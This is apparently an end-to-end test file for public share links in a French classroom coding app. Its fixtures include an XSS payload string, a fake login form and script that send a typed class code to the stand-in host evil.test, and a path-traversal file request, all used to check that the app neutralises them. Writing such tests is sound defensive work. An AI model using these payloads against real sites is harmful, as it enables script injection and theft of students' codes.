import { randomUUID } from 'node:crypto';
import { expect, test, type APIRequestContext } from '../test.ts';
import { toBase64 } from '#lib/domain/own-file/base64.ts';
import { describeOwnFile } from '#lib/domain/own-file/content-hash.ts';
import { formatOwnFile } from '#lib/domain/own-file/own-file.ts';
import { ONE_PIXEL_PNG } from '#lib/domain/own-file/testing.ts';
import { openHttpClient, makeCuratorLink } from '../adults.ts';
import {
	createClassWithTeacher,
	createWorkRequest,
	joinClass,
	signUpClientByLink,
	createExhibitRequest,
	type ClassWithTeacher,
	type Student,
	removeNonces
} from './people.ts';

const MARKUP = '<script>window.hurt=1</script><img src=x onerror="window.hurt=1">';
const ONE_PIXEL_PICTURE = describeOwnFile(ONE_PIXEL_PNG, { type: 'image/png', width: 1, height: 1 }, { kind: 'mine' });
const DEAD_LINK_TEXT = 'Ce lien ne mène nulle part';

test.describe.configure({ mode: 'serial' });
let classWithTeacher: ClassWithTeacher;
let maker: Student;
let classmate: Student;
let visitor: APIRequestContext;
let exhibitId: string;
let exhibitLink: string;

const wallPath = () => `/fr/wall/${classWithTeacher.classId}`;
const teacherWallPath = () => `/fr/classes/${classWithTeacher.classId}/wall`;
const fetchPage = async (who: APIRequestContext, address: string) => (await who.get(address)).text();
const postFormAction = (who: APIRequestContext, address: string) => who.post(address, { form: {}, maxRedirects: 0 });
const readExhibitLink = async (id = exhibitId, { client } = maker) =>
	/\/shown\/([0-9a-f]{48})/.exec(await fetchPage(client, `${wallPath()}/${id}`))?.[1] ?? '';
/** All addresses at which an exhibit's link gives access to a part of it. */
const listAddressesOfExhibitLink = (of: string) => [
	`/fr/shown/${of}`,
	`/fr/shown/${of}/__data.json`,
	`/api/shown/${of}/cover`,
	`/api/shown/${of}/files/${'a'.repeat(64)}`
];

/**
 * Requests every address of the link as a visitor. Removes nonces and the link itself from the answers, so that they can be
 * compared.
 */
const fetchLinkAnswers = (of: string) =>
	Promise.all(
		listAddressesOfExhibitLink(of).map(async (address) => {
			const answer = await visitor.get(address, { maxRedirects: 0 });
			return `${answer.status()} ${removeNonces(await answer.text()).replaceAll(of, 'LINK')}`;
		})
	);

/**
 * Stores a project of the student, with the picture if `files` names it, and hangs the project on the wall. Resolves to the
 * exhibit's id.
 */
async function putProjectOnWall(
	{ client, account }: Student,
	{ files, title, description }: { files: Record<string, string>; title: string; description: string }
): Promise<string> {
	const [work, version] = [randomUUID(), randomUUID()];
	const request = createWorkRequest({ account, work, version, challenge: null });
	Object.assign(request.versions[0] ?? {}, { files, project: { title, card: null } });
	expect((await client.put(`/api/works/${work}`, { data: request })).status()).toBe(200);
	if ('cat.png' in files) {
		const data = { format: 1, account, content: toBase64(ONE_PIXEL_PNG) };
		expect((await client.put(`/api/works/${work}/files/${ONE_PIXEL_PICTURE.sha256}`, { data })).status()).toBe(200);
	}
	const putUpRequest = createExhibitRequest({ account, version });
	const exhibitAnswer = await client.put(`/api/walls/${classWithTeacher.classId}/works/${work}`, {
		data: { ...putUpRequest, cover: { ...putUpRequest.cover, description } }
	});
	return ((await exhibitAnswer.json()) as { exhibit: string }).exhibit;
}

test.beforeAll(async () => {
	classWithTeacher = await createClassWithTeacher(await signUpClientByLink(makeCuratorLink()));
	[maker, classmate] = [await joinClass(classWithTeacher, 'Renard'), await joinClass(classWithTeacher, 'Hibou')];
	visitor = await openHttpClient();
	await postFormAction(classWithTeacher.teacher, `${teacherWallPath()}?/open`);
	const files = { 'main.ts': `// ${MARKUP}` };
	exhibitId = await putProjectOnWall(maker, { files, title: MARKUP.slice(0, 80), description: MARKUP });
});

test('a link is made only while links are on, and only by the exhibit’s maker', async () => {
	expect((await postFormAction(maker.client, `${wallPath()}/${exhibitId}?/makeLink`)).status()).toBe(409);
	expect(await readExhibitLink()).toBe('');
	for (const { client } of [maker, classmate])
		expect((await postFormAction(client, `${teacherWallPath()}?/openLinks`)).status()).toBe(403);
	await postFormAction(classWithTeacher.teacher, `${teacherWallPath()}?/openLinks`);
	expect((await postFormAction(classmate.client, `${wallPath()}/${exhibitId}?/makeLink`)).status()).toBe(409);
	expect((await postFormAction(maker.client, `${wallPath()}/${randomUUID()}?/makeLink`)).status()).toBe(404);
	expect((await postFormAction(classWithTeacher.teacher, `${wallPath()}/${exhibitId}?/makeLink`)).status()).toBe(403);
	expect(await readExhibitLink()).toBe('');

	expect((await postFormAction(maker.client, `${wallPath()}/${exhibitId}?/makeLink`)).status()).toBe(200);
	exhibitLink = await readExhibitLink();
	expect(exhibitLink).not.toBe('');
	expect(await fetchPage(classmate.client, `${wallPath()}/${exhibitId}`), 'read by a classmate').not.toContain(
		exhibitLink
	);
	expect(await fetchPage(classmate.client, wallPath()), 'read by a classmate').not.toContain(exhibitLink);
	await postFormAction(classmate.client, `${wallPath()}/${exhibitId}?/endLink`);
	expect(await readExhibitLink(), 'ended by a classmate').toBe(exhibitLink);
});

test('an exhibit’s link shows markup as text, runs nothing unasked, and names neither class nor maker', async ({
	browser
}) => {
	const tab = await (await browser.newContext()).newPage();
	await tab.goto(`/fr/shown/${exhibitLink}`, { waitUntil: 'networkidle' });
	await expect(tab.getByRole('heading', { level: 1 })).toContainText('<script>window.hurt=1</script>');
	expect(await tab.evaluate(() => 'hurt' in window)).toBe(false);
	expect(tab.frames()).toHaveLength(1);
	expect(tab.workers()).toHaveLength(0);
	const answers = (await fetchLinkAnswers(exhibitLink)).join('\n');
	for (const secret of [
		'Renard',
		'Hibou',
		'Attaquée',
		'On comprend',
		classWithTeacher.classId,
		exhibitId,
		maker.account
	])
		expect(answers, secret).not.toContain(secret);
	const cover = await visitor.get(`/api/shown/${exhibitLink}/cover`);
	expect(cover.headers()).toMatchObject({ 'content-type': 'image/png', 'cache-control': 'no-store' });
	expect(cover.headers()['content-security-policy']).toContain("default-src 'none'");
});

test('a program that imitates the app is shown under a warning sentence, and sends nothing', async ({ browser }) => {
	const page = `<h1>Braise</h1><form action="https://evil.test/"><label>Code de la classe <input name="code"></label>
		<button>Rejoindre</button></form>`;
	const program = `document.querySelector('form')!.addEventListener('submit', () => {
		document.body.dataset.typed = document.querySelector('input')!.value;
		fetch('https://evil.test/').catch(() => (document.title = 'refused'));
	});`;
	const files = { 'index.html': page, 'main.ts': program };
	const otherExhibit = await putProjectOnWall(maker, { files, title: 'Braise', description: '' });
	expect((await postFormAction(maker.client, `${wallPath()}/${otherExhibit}?/makeLink`)).status()).toBe(200);
	const tab = await (await browser.newContext()).newPage();
	const addresses: string[] = [];
	await tab.context().route('https://evil.test/**', (route) => {
		addresses.push(route.request().url());
		return route.abort();
	});
	await tab.goto(`/fr/shown/${await readExhibitLink(otherExhibit)}`);
	await tab.getByRole('button', { name: 'Lancer' }).click();
	const pageFrame = tab.frameLocator('.picture iframe').frameLocator('iframe').frameLocator('iframe.page');
	await pageFrame.getByLabel('Code de la classe').fill('ABC234');
	await expect(tab.getByText('Ce cadre montre le programme d’un élève, pas Braise')).toBeInViewport();
	await pageFrame.getByRole('button', { name: 'Rejoindre' }).click();
	await expect(pageFrame.getByLabel('Code de la classe')).toBeVisible();
	expect(addresses).toEqual([]);
	expect(new URL(tab.url()).pathname).toMatch(/^\/fr\/shown\//);
});

test('a link gives only the pictures that its own exhibit names', async () => {
	const files = { 'main.ts': '', 'cat.png': formatOwnFile(ONE_PIXEL_PICTURE) };
	const otherExhibit = await putProjectOnWall(classmate, { files, title: 'Chat', description: '' });
	expect((await postFormAction(classmate.client, `${wallPath()}/${otherExhibit}?/makeLink`)).status()).toBe(200);
	const otherLink = await readExhibitLink(otherExhibit, classmate);
	expect((await visitor.get(`/api/shown/${otherLink}/files/${ONE_PIXEL_PICTURE.sha256}`)).status()).toBe(200);
	expect((await visitor.get(`/api/shown/${exhibitLink}/files/${ONE_PIXEL_PICTURE.sha256}`)).status()).toBe(404);
	expect((await visitor.get(`/api/shown/${exhibitLink}/files/..%2f..%2fcover`)).status()).toBe(404);
});

test('an ended, hidden, archived or turned-off link answers like a link that never existed', async () => {
	const answersToUnknownLink = await fetchLinkAnswers('0'.repeat(48));
	expect(answersToUnknownLink[0]).toMatch(/^404 /);
	expect(answersToUnknownLink[0]).toContain(DEAD_LINK_TEXT);
	const expectAnswersOfUnknownLink = async (what: string) =>
		expect(await fetchLinkAnswers(exhibitLink), what).toEqual(answersToUnknownLink);
	const expectLinkShowsExhibit = async (what: string) =>
		expect((await visitor.get(`/fr/shown/${exhibitLink}`)).status(), what).toBe(200);
	for (const invented of ['x', exhibitId, exhibitLink.toUpperCase(), `${exhibitLink}0`])
		expect((await visitor.get(`/fr/shown/${invented}`)).status(), invented).toBe(404);

	await postFormAction(classWithTeacher.teacher, `${teacherWallPath()}/${exhibitId}?/hide`);
	await expectAnswersOfUnknownLink('hidden');
	await postFormAction(classWithTeacher.teacher, `${teacherWallPath()}/${exhibitId}?/show`);
	await expectLinkShowsExhibit('shown again');
	await postFormAction(classWithTeacher.teacher, `/fr/classes/${classWithTeacher.classId}/settings?/archive`);
	await expectAnswersOfUnknownLink('archived');
	await postFormAction(classWithTeacher.teacher, `/fr/classes/${classWithTeacher.classId}/settings?/unarchive`);
	await expectLinkShowsExhibit('no longer archived');
	await postFormAction(maker.client, `${wallPath()}/${exhibitId}?/endLink`);
	await expectAnswersOfUnknownLink('ended');

	await postFormAction(maker.client, `${wallPath()}/${exhibitId}?/makeLink`);
	exhibitLink = await readExhibitLink();
	await expectLinkShowsExhibit('made anew');
	await postFormAction(classWithTeacher.teacher, `${teacherWallPath()}?/endLinks`);
	await expectAnswersOfUnknownLink('turned off');
	await postFormAction(classWithTeacher.teacher, `${teacherWallPath()}?/openLinks`);
	await expectAnswersOfUnknownLink('turned on again');
});
